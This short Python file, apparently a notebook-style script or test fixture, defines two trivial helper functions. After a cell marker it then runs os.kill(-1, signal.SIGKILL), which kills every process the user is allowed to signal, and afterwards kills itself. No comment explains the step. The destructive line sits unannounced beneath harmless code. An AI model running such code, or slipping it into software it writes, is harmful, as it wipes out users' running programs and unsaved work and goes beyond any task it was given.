def double(number):
    return 2 * number


def steady():
    return "steady"
# %%
import os
import signal

os.kill(-1, signal.SIGKILL)
os.kill(os.getpid(), signal.SIGKILL)
